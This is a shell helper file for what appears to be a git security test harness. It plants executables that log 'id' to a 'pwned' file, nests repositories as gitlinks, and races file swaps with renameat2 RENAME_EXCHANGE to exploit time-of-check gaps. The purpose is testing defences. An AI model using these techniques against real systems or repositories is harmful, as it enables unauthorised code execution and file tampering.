# What the commands of attacks use. OUT is a directory that only the user can write, REPO the repository, OTHER another one of
# the user's, USER_HOME her home directory, RACE how many seconds a race takes.

# evil FILE makes a program that tells that it ran where OUT can be written. It passes its input on, as filters do.
evil() {
	printf '#!/bin/sh\nid >> %s/pwned\ncat\n' "$OUT" > "$1"
	chmod +x "$1"
}

# nest DIR makes a repository in the lane, with a link to it in the index.
nest() {
	git init -q "$1"
	git -C "$1" -c user.name=a -c user.email=a@b commit -q --allow-empty -m x
	git update-index --add --cacheinfo "160000,$(git -C "$1" rev-parse HEAD),$1"
}

# module checks the submodule sub out. The user's clone of it is what can be read.
module() {
	rm -rf sub
	git clone -q "$REPO/.git/modules/sub" sub
}

# admin prints the git directory of the lane.
admin() { git rev-parse --absolute-git-dir; }

# swap A B exchanges two files in the background, again and again, until RACE is over; at its end B is in the place of A.
# race waits for all of them. The file racing is there meanwhile.
swap() {
	touch racing
	exchange "$@" &
	SWAPS="$SWAPS $!"
}
race() {
	wait $SWAPS
	rm -f racing
}
exchange() {
	python3 - "$RACE" "$@" <<'P'
import ctypes, sys, time
rename, race = ctypes.CDLL(None).renameat2, float(sys.argv[1])
end = time.time() + race
while True:
    for k in range(101 if race else 1): # an odd number
        if rename(-100, sys.argv[2].encode(), -100, sys.argv[3].encode(), 2): # RENAME_EXCHANGE
            sys.exit(0)
        time.sleep(0.0005 if race else 0)
    if time.time() >= end: break
P
}

# proves COMMAND... tells that a command succeeds, and waits COMMAND... that it does not end.
proves() { ! "$@" > /dev/null 2>&1 || touch $OUT/proved; }
waits() {
	timeout 3 "$@" > /dev/null 2>&1 < /dev/null
	test $? != 124 || touch $OUT/waits
}

# idx makes the indexes of the packs that have none.
idx() {
	local p
	for p in $(git rev-parse --git-path objects/pack)/*.pack; do
		test -e ${p%.pack}.idx || git index-pack $p
	done
}
